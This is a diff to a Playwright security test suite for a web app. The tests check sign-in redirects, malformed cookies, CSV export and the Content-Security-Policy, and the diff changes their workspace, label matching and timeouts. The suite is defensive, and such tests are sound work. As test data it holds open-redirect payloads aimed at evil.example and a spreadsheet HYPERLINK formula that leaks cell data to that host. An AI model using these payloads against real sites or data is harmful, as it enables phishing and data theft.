@@ -1,9 +1,14 @@
 // Attacks a browser can see (issue 9): open redirect after sign-in, framing, malformed cookies,
 // formula injection through a dashboard CSV, and a Content-Security-Policy that blocks nothing of
-// our own. Each creates its own data (its own map with a unique stage name).
+// our own. Each creates its own data (its own maps, in Globex: Acme's map counts are asserted by
+// the dashboard spec running in parallel).
 import { randomBytes } from "node:crypto";
 import { request as apiRequest, type Page } from "@playwright/test";
-import { DEMO, DEMO_PASSWORD, expect, test } from "./fixtures";
+import { DEMO, DEMO_PASSWORD, expect as baseExpect, test } from "./fixtures";
+
+// Sign-ins (scrypt) and page loads on a busy two-core machine: generous limits, no timing assertions.
+const expect = baseExpect.configure({ timeout: 30_000 });
+test.describe.configure({ timeout: 240_000 });
 
 const OPEN_REDIRECTS = ["/%5Cevil.example/x", "//evil.example/x", "/%5C%5Cevil.example", "https://evil.example/x", "javascript:alert(1)", "/%09/evil.example"];
 
@@ -32,8 +37,8 @@ test("sign-in never sends the browser to another site, whatever the callbackUrl"
     if (r.isNavigationRequest() && !r.url().startsWith(origin)) leftSite.push(r.url());
   });
   await page.goto(`/sign-in?callbackUrl=${OPEN_REDIRECTS[0]}`);
-  await page.getByLabel("Email").fill(DEMO.ben);
-  await page.getByLabel("Password").fill(DEMO_PASSWORD);
+  await page.getByLabel("E-mail", { exact: true }).fill(DEMO.ben);
+  await page.getByLabel("Password", { exact: true }).fill(DEMO_PASSWORD);
   await page.getByRole("button", { name: "Sign in", exact: true }).click();
   await expect(page).toHaveURL(new RegExp(`^${origin}/w/`));
   // Already signed in: the sign-in page redirects to the callback at once — still on this site.
@@ -110,11 +115,11 @@ test("a malformed cookie gets 401 JSON from the API and never a server error fro
 });
 
 test("a formula in a touchpoint title is defused in the dashboard CSV", async ({ pageAs }) => {
-  const page = await pageAs(DEMO.ada);
+  const page = await pageAs(DEMO.oz);
   const violations = await watchCsp(page);
   const stage = `Security ${randomBytes(4).toString("hex")}`;
   const title = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
-  const created = await page.request.post("/api/v1/workspaces/acme/maps", { data: { title: `CSV injection ${stage}` } });
+  const created = await page.request.post("/api/v1/workspaces/globex/maps", { data: { title: `CSV injection ${stage}` } });
   expect(created.status()).toBe(201);
   const { id } = (await created.json()) as { id: string };
   const put = await page.request.put(`/api/v1/maps/${id}`, {
@@ -133,13 +138,19 @@ test("a formula in a touchpoint title is defused in the dashboard CSV", async ({
   const query = `stage=${encodeURIComponent(stage)}`;
   // The dashboard projection follows the live document shortly after the write.
   await expect.poll(async () => {
-    const json = (await (await page.request.get(`/api/v1/workspaces/acme/dashboard?${query}`)).json()) as { worstTouchpoints: { title: string }[] };
+    const json = (await (await page.request.get(`/api/v1/workspaces/globex/dashboard?${query}`)).json()) as { worstTouchpoints: { title: string }[] };
     return json.worstTouchpoints.map((t) => t.title);
   }, { timeout: 30_000 }).toContain(title);
 
-  await page.goto(`/w/acme/dashboard?${query}`);
+  await page.goto(`/w/globex/dashboard?${query}`);
   const panel = page.getByTestId("panel-worst-touchpoints");
-  await expect(panel).toBeVisible();
+  // The table toggle answering proves the page is hydrated (the CSV button works from then on);
+  // a click that lands before hydration does nothing, so it is repeated until the table shows.
+  await expect(async () => {
+    const show = panel.getByRole("button", { name: "Show table" });
+    if (await show.isVisible()) await show.click();
+    await baseExpect(panel.getByRole("table")).toBeVisible({ timeout: 3_000 });
+  }).toPass({ timeout: 60_000 });
   const [download] = await Promise.all([page.waitForEvent("download"), panel.getByTestId("csv-worst-touchpoints").click()]);
   const csv = await (await download.createReadStream()).toArray().then((chunks) => Buffer.concat(chunks).toString("utf8").replace(/^\uFEFF/, ""));
   const rows = csv.trim().split(/\r\n/);
@@ -151,21 +162,32 @@ test("a formula in a touchpoint title is defused in the dashboard CSV", async ({
   expect(violations).toEqual([]);
 });
 
-test("the app runs under its Content-Security-Policy: charts, editor, live sync, avatars, language switch", async ({ pageAs }) => {
-  const page = await pageAs(DEMO.ada);
+test("the app runs under its Content-Security-Policy: pages, charts, language switch, map editor with live sync", async ({ pageAs }) => {
+  const page = await pageAs(DEMO.oz);
   const violations = await watchCsp(page);
-  for (const path of ["/w/acme", "/w/acme/dashboard", "/w/acme/maps", "/w/acme/personas", "/w/acme/stakeholders", "/w/acme/members"]) {
+  // A map of our own (from a template: stages, touchpoints, emotions) so that the charts have data.
+  const created = await page.request.post("/api/v1/workspaces/globex/maps", { data: { title: "CSP check", template: "saas-b2b" } });
+  expect(created.status()).toBe(201);
+  const { id } = (await created.json()) as { id: string };
+  for (const path of ["/w/globex", "/w/globex/maps", "/w/globex/personas", "/w/globex/stakeholders", "/w/globex/members"]) {
     const res = await page.goto(path);
     expect(res!.status(), path).toBeLessThan(400);
     await page.waitForLoadState("networkidle");
   }
-  // Charts render (Recharts with inline styles).
-  await page.goto("/w/acme/dashboard");
-  await expect(page.locator(".recharts-surface").first()).toBeVisible();
+  // Charts render (Recharts with inline styles) once the projection has the map.
+  await expect(async () => {
+    await page.goto("/w/globex/dashboard");
+    await baseExpect(page.locator(".recharts-surface").first()).toBeVisible({ timeout: 5_000 });
+  }).toPass({ timeout: 60_000 });
+  // The language switch (a server action, then a refresh) works and switches back.
+  await expect(async () => {
+    await page.getByRole("button", { name: "de", exact: true }).click();
+    await baseExpect(page.locator("html")).toHaveAttribute("lang", "de", { timeout: 3_000 });
+  }).toPass({ timeout: 60_000 });
+  await page.getByRole("button", { name: "en", exact: true }).click();
+  await expect(page.locator("html")).toHaveAttribute("lang", "en");
   // The map editor syncs over the /collab WebSocket on the same origin.
-  const created = await page.request.post("/api/v1/workspaces/acme/maps", { data: { title: "CSP check", template: "saas-b2b" } });
-  const { id } = (await created.json()) as { id: string };
-  await page.goto(`/w/acme/maps/${id}`);
+  await page.goto(`/w/globex/maps/${id}`);
   await expect(page.getByTestId("map-grid")).toBeVisible();
   await expect(page.getByTestId("map-grid")).toContainText(/./);
   await page.waitForLoadState("networkidle");
